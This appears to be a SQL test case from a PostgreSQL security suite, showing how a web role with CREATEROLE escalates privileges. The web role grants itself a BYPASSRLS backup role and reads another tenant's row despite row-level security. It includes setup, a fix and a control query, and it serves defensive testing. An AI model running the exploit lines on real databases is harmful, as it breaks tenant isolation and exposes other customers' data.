-- What: CREATEROLE, so that the application can make a login for each customer. Up to PostgreSQL 15 it gives any role but superusers.
-- Class: role_creates_roles|role_bypasses_rls
-- Object: creates_roles_web
-- Closed: 16.0
-- Exploit: GRANT itself the role of the backups, which has BYPASSRLS.
-- App: creates_roles_web
-- Roles: creates_roles_web creates_roles_backup
-- @superuser
create role creates_roles_backup bypassrls;
create role creates_roles_web login createrole;
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to creates_roles_web;
grant select on items to creates_roles_backup;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter role creates_roles_web nocreaterole;
-- @control
select from items where tenant_id = :'A';
-- @exploit
grant creates_roles_backup to creates_roles_web;
set role creates_roles_backup;
select body from items where body = 'B-secret';
